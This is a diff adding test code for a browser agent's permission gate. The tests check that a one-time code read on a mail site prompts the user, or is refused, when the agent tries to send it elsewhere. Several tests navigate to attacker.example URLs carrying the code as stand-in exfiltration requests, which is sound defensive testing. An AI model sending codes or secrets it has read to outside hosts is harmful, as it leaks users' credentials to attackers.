@@ -1,0 +1,125 @@
+import { describe, expect, it } from 'vitest';
+import { createGate } from '../../background/permissions/gate';
+import { createPrompts, type PromptRequest } from '../../background/permissions/prompts';
+import { defaultPolicy, type HarborPolicy } from '../../policy';
+
+const never = new AbortController().signal;
+const settle = async () => {
+  for (let i = 0; i < 5; i++) await new Promise((resolve) => setTimeout(resolve, 0));
+};
+const RUN = 'run-1';
+const CODE_PAGE = 'From: Bank. Your one-time code is OTP-483920. It expires in 10 minutes.';
+
+/** The real gate with realistic trust: navigation allowed on every site, forum.example trusted up to submit. */
+function setUp() {
+  let policy: HarborPolicy = {
+    ...defaultPolicy(),
+    tools: { navigate: 'allow', open_tab: 'allow', search_web: 'allow' },
+    sites: { 'forum.example': 'submit' },
+  };
+  const shown: PromptRequest[] = [];
+  const prompts = createPrompts(
+    (request) => void shown.push(request),
+    () => undefined,
+  );
+  const gate = createGate({
+    policy: { load: async () => policy, current: () => policy, update: async (change) => (policy = change(policy)) },
+    prompts,
+    log: { add: async () => undefined } as never,
+    promptTimeoutMs: () => 60_000,
+  });
+  return { gate, prompts, shown, policy: () => policy };
+}
+
+/** Thrown by beforeRun: the gate allowed the call and was about to run it (there is no tab here). */
+class Ran extends Error {}
+
+const navigate = (gate: ReturnType<typeof setUp>['gate'], url: string, personWords?: string[]) =>
+  gate
+    .run(
+      {
+        name: 'navigate',
+        args: { url },
+        runId: RUN,
+        requester: 'chat',
+        beforeRun: () => Promise.reject(new Ran()),
+        ...(personWords ? { personWords } : {}),
+      },
+      { tabId: 1, signal: never } as never,
+    )
+    .catch((error: unknown) => {
+      if (error instanceof Ran) return 'ran' as const;
+      throw error;
+    });
+
+describe('the gate: data flows', () => {
+  it('a navigation carrying a code read on another site asks despite "navigate everywhere", naming it', async () => {
+    const { gate, prompts, shown } = setUp();
+    gate.noteRead(RUN, 'https://mail.example/inbox', CODE_PAGE);
+    const running = navigate(gate, 'https://attacker.example/collect?d=otp%2D483920');
+    await settle();
+    expect(shown).toHaveLength(1);
+    expect(shown[0]!.dataFlow).toEqual([{ text: 'OTP-483920', from: ['mail.example'], to: 'attacker.example' }]);
+    expect(shown[0]!.reason).toBe('Bosun would send text read on mail.example — "OTP-483920" — to attacker.example.');
+    prompts.answer(shown[0]!.id, 'deny');
+    expect(await running).toMatchObject({ outcome: 'denied', decision: 'deny' });
+  });
+
+  it('no answer lasts: "Always" runs it once, stores no grant, and the next flow asks again', async () => {
+    const { gate, prompts, shown, policy } = setUp();
+    gate.noteRead(RUN, 'https://mail.example/inbox', CODE_PAGE);
+    const before = structuredClone(policy());
+    const first = navigate(gate, 'https://attacker.example/?d=OTP-483920');
+    await settle();
+    prompts.answer(shown[0]!.id, 'allow-site');
+    expect(await first).toBe('ran');
+    expect(policy()).toEqual(before);
+    void navigate(gate, 'https://attacker.example/?d=OTP-483920');
+    await settle();
+    expect(shown).toHaveLength(2);
+  });
+
+  it('a deny refuses that action only: the same tool and site without the code runs unasked', async () => {
+    const { gate, prompts, shown } = setUp();
+    gate.noteRead(RUN, 'https://mail.example/inbox', CODE_PAGE);
+    const first = navigate(gate, 'https://forum.example/?q=OTP-483920');
+    await settle();
+    prompts.answer(shown[0]!.id, 'deny');
+    expect(await first).toMatchObject({ outcome: 'denied' });
+    expect(await navigate(gate, 'https://forum.example/?q=trail+shoes')).toBe('ran');
+    expect(shown).toHaveLength(1);
+  });
+
+  it("the person's own words, the code's own site, another run and an ended run pass unasked", async () => {
+    const { gate, shown } = setUp();
+    gate.noteRead(RUN, 'https://mail.example/inbox', CODE_PAGE);
+    expect(await navigate(gate, 'https://attacker.example/?d=OTP-483920', ['Send OTP-483920 there'])).toBe('ran');
+    expect(await navigate(gate, 'https://mail.example/search?q=OTP-483920')).toBe('ran');
+    gate.endRun(RUN);
+    expect(await navigate(gate, 'https://attacker.example/?d=OTP-483920')).toBe('ran');
+    expect(shown).toEqual([]);
+  });
+
+  it('a blocked destination stays a refusal, never a question', async () => {
+    const { gate, shown, policy } = setUp();
+    const p = policy();
+    p.sites['attacker.example'] = 'blocked';
+    gate.noteRead(RUN, 'https://mail.example/inbox', CODE_PAGE);
+    expect(await navigate(gate, 'https://attacker.example/?d=OTP-483920')).toMatchObject({ outcome: 'denied' });
+    expect(shown).toEqual([]);
+  });
+
+  it('authorize (the bridge, crawls) applies the rule to the URL and to the text it says it sends', async () => {
+    const { gate, prompts, shown } = setUp();
+    gate.noteRead(RUN, 'https://mail.example/inbox', CODE_PAGE);
+    const access = { name: 'browser_type', level: 'interact' as const, args: {}, runId: RUN, requester: 'bridge' };
+    const typing = gate.authorize({ ...access, url: 'https://forum.example/new', sends: ['code: OTP 483920'] }, never);
+    await settle();
+    expect(shown[0]!.dataFlow).toEqual([{ text: 'OTP-483920', from: ['mail.example'], to: 'forum.example' }]);
+    prompts.answer(shown[0]!.id, 'deny');
+    expect(await typing).toMatchObject({ outcome: 'denied' });
+    expect(await gate.authorize({ ...access, url: 'https://forum.example/new', sends: ['trail shoes'] }, never)).toBe(
+      null,
+    );
+  });
+});
